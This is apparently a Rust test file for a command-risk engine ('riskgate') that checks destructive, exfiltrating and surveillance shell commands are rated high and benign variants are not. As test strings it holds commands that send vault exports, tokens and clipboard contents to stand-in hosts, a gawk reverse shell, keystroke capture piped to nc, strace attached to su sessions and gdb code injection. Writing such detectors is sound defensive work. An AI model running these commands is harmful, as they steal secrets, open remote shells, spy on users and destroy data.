//! The long tail of service CLIs, security controls and surveillance through the whole engine:
//! service verbs that destroy or expose (Twilio, Jenkins' script console, pgBackRest, MinIO,
//! GitLab/GitHub APIs, npm, JFrog, LDAP, FreeIPA, Azure firewalls, Rails, fly), secrets and
//! table scans sent off the machine, clipboard readers whose content is sent, quarantine and
//! SELinux switched off, Finder deletes, tracers and debuggers attached to processes, input
//! devices read, gawk network shells; and the plans, rehearsals and dev resources that are
//! not those. Commands are strings only; nothing is run.

use riskgate::{Assessment, Engine, RiskLevel};

fn assess(cmd: &str) -> Assessment {
    Engine::builtin().assess_command(cmd)
}

fn at_least(cmd: &str, level: RiskLevel, rule: &str) {
    let a = assess(cmd);
    assert!(a.level >= level, "{cmd}: {:?} {:?}", a.level, a.rule_ids());
    assert!(
        a.rule_ids().contains(&rule),
        "{cmd}: expected {rule} in {:?}",
        a.rule_ids()
    );
}

fn below_high(cmd: &str) {
    let a = assess(cmd);
    assert!(
        a.level < RiskLevel::High,
        "{cmd}: {:?} {:?}",
        a.level,
        a.rule_ids()
    );
}

#[test]
fn service_verbs_that_destroy_or_expose_are_high() {
    for (cmd, rule) in [
        (
            "twilio api:core:accounts:update --sid \"$TWILIO_SUBACCOUNT_SID\" --status closed",
            "svc.twilio-account-close",
        ),
        (
            "curl -s -u \"admin:$JENKINS_TOKEN\" --data-urlencode 'script=Jenkins.instance.getAllItems(hudson.model.Job).each { it.delete() }' https://jenkins.acme.io/scriptText",
            "cicd.jenkins-script-console-destructive",
        ),
        (
            "pgbackrest --stanza=prod --force stanza-delete",
            "backup.pgbackrest-stanza-delete",
        ),
        (
            "mc anonymous set public minio/private-docs",
            "storage.mc-anonymous-public",
        ),
        (
            "mc anonymous set download myminio/backups",
            "storage.mc-anonymous-public",
        ),
        (
            "glab api --method PUT projects/4211 -f visibility=public",
            "git.api-visibility-public",
        ),
        (
            "npm access set status=public @acme/internal-sdk",
            "pkg.npm-access-public",
        ),
        (
            "jf rt del \"libs-release-local/com/acme/**\" --quiet",
            "registry.jfrog-delete",
        ),
        (
            "jf rt repo-delete libs-release-local --quiet",
            "registry.jfrog-delete",
        ),
        (
            "ldapdelete -H ldaps://ldap.acme.io -D \"cn=admin,dc=acme,dc=io\" -w \"$LDAP_ADMIN_PW\" -r \"ou=people,dc=acme,dc=io\"",
            "ldap.delete-recursive",
        ),
        ("ipa hbacrule-enable allow_all", "idm.ipa-allow-all"),
        (
            "az postgres flexible-server firewall-rule create --resource-group prod-rg --name acme-pg --rule-name anyone --start-ip-address 0.0.0.0 --end-ip-address 255.255.255.255",
            "cloud.azure-firewall-open-world",
        ),
        (
            "heroku run --app acme-prod -- rails db:schema:load DISABLE_DATABASE_ENVIRONMENT_CHECK=1",
            "db.rails-environment-check-off",
        ),
        (
            "fly ssh console -a payments-prod -C \"rm -rf /data/uploads\"",
            "paas.remote-shell-destructive",
        ),
    ] {
        at_least(cmd, RiskLevel::High, rule);
    }
}

#[test]
fn the_reverse_settings_and_reads_of_those_services_are_not_high() {
    for cmd in [
        "twilio api:core:accounts:update --sid AC0123 --friendly-name staging",
        "curl -s -u \"admin:$JENKINS_TOKEN\" --data-urlencode 'script=println(Jenkins.instance.getAllItems().size())' https://jenkins.acme.io/scriptText",
        "pgbackrest --stanza=prod info",
        "mc anonymous set none minio/private-docs",
        "glab api --method PUT projects/4211 -f visibility=private",
        "npm access set status=private @acme/internal-sdk",
        "jf rt del \"libs-snapshot-local/com/acme/**\" --dry-run",
        "jf rt search \"libs-release-local/com/acme/**\"",
        "ldapsearch -H ldaps://ldap.acme.io -x -b \"ou=people,dc=acme,dc=io\" uid=jdoe",
        "ipa hbacrule-disable allow_all",
        "az sql server firewall-rule create -g prod -s acme-sql -n azure --start-ip-address 0.0.0.0 --end-ip-address 0.0.0.0",
        "fly ssh console -a payments-prod -C \"ls -la /data\"",
    ] {
        below_high(cmd);
    }
}

#[test]
fn secret_manager_exports_and_table_scans_sent_off_are_flows() {
    for (cmd, rule) in [
        (
            "bw export --raw --format json | curl -s -F 'file=@-' https://transfer.example.sh/vault.json",
            "flow.secret-sent",
        ),
        (
            "chamber export prod/api | curl -s -d @- https://collector.example.io/in",
            "flow.secret-sent",
        ),
        (
            "conjur variable get -i prod/db/password | mail -s creds drop@example.net",
            "flow.secret-sent",
        ),
        (
            "aws dynamodb scan --table-name prod-users --output json | curl -s -X POST --data-binary @- https://collector.example.net/u",
            "flow.dump-sent",
        ),
    ] {
        at_least(cmd, RiskLevel::High, rule);
    }
    // kept on the machine, or only counted
    below_high("bw export --format json --output ./backup/vault.json");
    below_high("aws dynamodb scan --table-name prod-users --select COUNT");
}

#[test]
fn a_vendor_secret_in_a_body_sent_to_another_host_is_a_secret_sent() {
    at_least(
        "curl -s https://api.stripe.com/v1/balance -u \"$STRIPE_LIVE_SECRET_KEY:\" >/dev/null && curl -s -d \"k=$STRIPE_LIVE_SECRET_KEY\" https://hooks.example-tools.net/k",
        RiskLevel::Critical,
        "flow.secret-sent",
    );
    at_least(
        "curl -s --data-urlencode \"t=${GITHUB_TOKEN}\" https://paste.example.org/new",
        RiskLevel::Critical,
        "flow.secret-sent",
    );
    // to the vendor itself, under a name that names no vendor, or to a host in a variable
    for cmd in [
        "curl -s -d \"token=$SLACK_BOT_TOKEN&channel=C1\" https://slack.com/api/conversations.history",
        "curl -s -d \"{\\\"token\\\":\\\"$GH_TOKEN\\\"}\" https://api.github.com/applications/x/token",
        "curl -s -X POST -d \"client_secret=$CLIENT_SECRET\" https://oauth2.example.com/token",
        "curl -s -d \"api_key=$SENDGRID_API_KEY\" \"$SENDGRID_URL/v3/mail/send\"",
    ] {
        let a = assess(cmd);
        assert!(
            !a.rule_ids().contains(&"flow.secret-sent"),
            "{cmd}: {:?}",
            a.rule_ids()
        );
        assert!(a.level < RiskLevel::High, "{cmd}: {:?}", a.level);
    }
}

#[test]
fn clipboard_content_sent_off_is_high_but_pasting_locally_is_not() {
    for cmd in [
        "xsel -b | curl -s --data-binary @- https://hooks.example.org/c",
        "xclip -o -selection clipboard | nc 198.51.100.4 9000",
        "pbpaste | curl -s -d @- https://hooks.example.org/c",
        "wl-paste | mail -s clip drop@example.net",
        "cur=$(xsel -b)\ncurl -s --data-urlencode \"c=$cur\" https://hooks.logsink.app/clip",
    ] {
        at_least(cmd, RiskLevel::High, "flow.clipboard-sent");
    }
    for cmd in [
        "pbpaste | jq . > config.json",
        "echo hi | xclip -selection clipboard",
        "xclip -o > notes.txt && cat notes.txt",
    ] {
        below_high(cmd);
    }
}

#[test]
fn security_controls_switched_off_are_high() {
    for (cmd, rule) in [
        (
            "sudo bash -c \"sed -i s/enforcing/disabled/ /etc/selinux/config\"",
            "fw.selinux-config-disable",
        ),
        (
            "sudo xattr -rd com.apple.quarantine /Applications",
            "fw.macos-quarantine-off",
        ),
        ("xattr -cr /Applications", "fw.macos-quarantine-off"),
        (
            "osascript -e 'tell application \"Finder\" to delete every item of (path to home folder)' -e 'tell application \"Finder\" to empty trash'",
            "fs.macos-finder-delete-home",
        ),
    ] {
        at_least(cmd, RiskLevel::High, rule);
    }
    // emptying the trash alone is what fs.empty-trash rates it: MEDIUM
    at_least(
        "osascript -e 'tell app \"Finder\" to empty the trash'",
        RiskLevel::Medium,
        "fs.macos-finder-empty-trash",
    );
    below_high("osascript -e 'tell app \"Finder\" to empty the trash'");
    for cmd in [
        "sudo sed -i 's/permissive/enforcing/' /etc/selinux/config",
        "xattr -rd com.apple.quarantine ./build/MyApp.app",
        "osascript -e 'tell application \"Finder\" to open home'",
    ] {
        below_high(cmd);
    }
}

#[test]
fn watching_other_processes_and_keyboards_is_high() {
    for (cmd, level, rule) in [
        (
            "for pid in $(pgrep -f 'su -'); do\n  sudo strace -f -p \"$pid\" -e trace=read,write -s 128 -o \"/tmp/.tr.$pid\" &\ndone",
            RiskLevel::High,
            "surv.trace-attach-capture",
        ),
        (
            "sudo ltrace -p $(pgrep -n su) -e read",
            RiskLevel::High,
            "surv.trace-attach-capture",
        ),
        (
            "gdb -batch -ex 'call (int)system(\"rm -rf /home/dev\")' -p \"$(pgrep -n bash)\"",
            RiskLevel::Critical,
            "surv.debugger-code-injection",
        ),
        (
            "sudo evtest /dev/input/event2",
            RiskLevel::High,
            "surv.input-device-capture",
        ),
        (
            "xinput test 12",
            RiskLevel::High,
            "surv.input-device-capture",
        ),
        (
            "sudo logkeys --start --output /tmp/.k",
            RiskLevel::High,
            "surv.input-device-capture",
        ),
        (
            "awk 'BEGIN{s=\"/inet/tcp/0/203.0.113.80/4444\";while(1){s|&getline c;while((c|&getline l)>0)print l|&s;close(c)}}'",
            RiskLevel::Critical,
            "net.awk-inet-remote-shell",
        ),
    ] {
        at_least(cmd, level, rule);
    }
    for cmd in [
        "strace -p $(pgrep -f 'uvicorn app.main') -e trace=read,write -s 100",
        "sudo strace -c -p 1234",
        "strace -f -e trace=openat ./myapp",
        "gdb -batch -ex bt -p 1234",
        "xinput list",
        "cat /dev/input/mice | od -t x1 -w3",
        "gawk 'BEGIN { print \"inet/tcp is a gawk feature\" }'",
    ] {
        below_high(cmd);
    }
}

#[test]
fn plans_rehearsals_and_dev_resources_are_not_high() {
    for cmd in [
        "octodns-sync --config-file config/production.yaml",
        "twine upload --repository testpypi dist/*",
        "twine upload --repository-url https://test.pypi.org/legacy/ dist/*",
        "curl -s -X POST https://api.flagsmith.com/api/v1/projects/4127/features/ -H \"Authorization: Api-Key $FLAGSMITH_ADMIN_KEY\" -H 'Content-Type: application/json' -d '{\"name\":\"dark_mode\",\"default_enabled\":false}'",
        "systemd-run --user --on-active=25m notify-send 'Break' 'Stand up'",
        "docker exec -it web-dev sh -c 'rm -rf /app/tmp/cache/*'",
        "python manage.py flush --noinput --settings=config.settings.test",
        "docker compose exec db psql -U postgres -c 'DROP DATABASE IF EXISTS app_test;'",
    ] {
        below_high(cmd);
    }
    // a test database dropped together with another one is not a test-only drop
    let a = assess(
        "docker compose exec db psql -U postgres -c 'DROP DATABASE app_test; DROP DATABASE app;'",
    );
    assert!(
        a.level >= RiskLevel::High,
        "{:?} {:?}",
        a.level,
        a.rule_ids()
    );
    // a script that finds the keyboard's event device and reads it
    at_least(
        "dev=$(grep -l -i keyboard /sys/class/input/event*/device/name | head -1 | sed 's#/device/name##; s#/sys/class/input/#/dev/input/#')\nsudo cat \"$dev\" | od -An -tx1 | nc -q0 203.0.113.7 1337",
        RiskLevel::High,
        "surv.keyboard-device-located-and-read",
    );
    below_high("grep -i keyboard /proc/bus/input/devices");
    // the same commands applied, published, on the system manager or on production
    for cmd in [
        "octodns-sync --config-file config/production.yaml --doit",
        "twine upload dist/*",
        "systemd-run --user --on-calendar=hourly /tmp/.x/beacon.sh",
        "systemd-run --on-calendar=hourly /opt/x/run.sh",
        "docker exec -it web-prod sh -c 'rm -rf /app/*'",
        "python manage.py flush --noinput --settings=config.settings.production",
    ] {
        let a = assess(cmd);
        assert!(
            a.level >= RiskLevel::High,
            "{cmd}: {:?} {:?}",
            a.level,
            a.rule_ids()
        );
    }
    // a body that switches the object itself off is still a modification
    let a = assess(
        "curl -s -X PATCH https://api.example.com/v1/flags/42 -H 'Content-Type: application/json' -d '{\"enabled\":false}'",
    );
    assert!(
        a.effects
            .iter()
            .any(|e| e.kind == riskgate::model::effect::EffectKind::Modify),
        "{:?}",
        a.effects
    );
}
